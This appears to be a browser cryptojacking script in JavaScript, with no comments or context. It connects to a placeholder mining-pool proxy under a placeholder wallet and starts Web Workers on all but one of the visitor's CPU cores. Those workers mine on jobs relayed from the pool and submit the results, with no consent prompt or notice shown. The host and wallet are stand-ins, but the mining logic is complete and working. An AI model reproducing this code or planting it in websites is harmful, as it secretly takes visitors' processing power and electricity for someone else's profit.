const POOL = 'wss://pool-proxy.example:443/proxy';
const WALLET = '4ExampleWalletAddressExampleWalletAddressExample';
let job = null;
const workers = [];

function startWorkers() {
  const count = Math.max(1, navigator.hardwareConcurrency - 1);
  for (let i = 0; i < count; i++) {
    const worker = new Worker('/js/cn-worker.js');
    worker.onmessage = ({ data }) => {
      if (data.type === 'submit') {
        socket.send(JSON.stringify({ type: 'submit', params: { job_id: data.job_id, nonce: data.nonce, result: data.result } }));
      }
      if (data.type === 'nothing') worker.postMessage({ job, throttle: 0.2 });
    };
    workers.push(worker);
  }
}

const socket = new WebSocket(POOL);
socket.onopen = () => socket.send(JSON.stringify({ type: 'auth', params: { site_key: WALLET, type: 'anonymous', user: null, goal: 0 } }));
socket.onmessage = ({ data }) => {
  const message = JSON.parse(data);
  if (message.type === 'authed') startWorkers();
  if (message.type === 'job') {
    job = message.params;
    workers.forEach((worker) => worker.postMessage({ job, throttle: 0.2 }));
  }
};
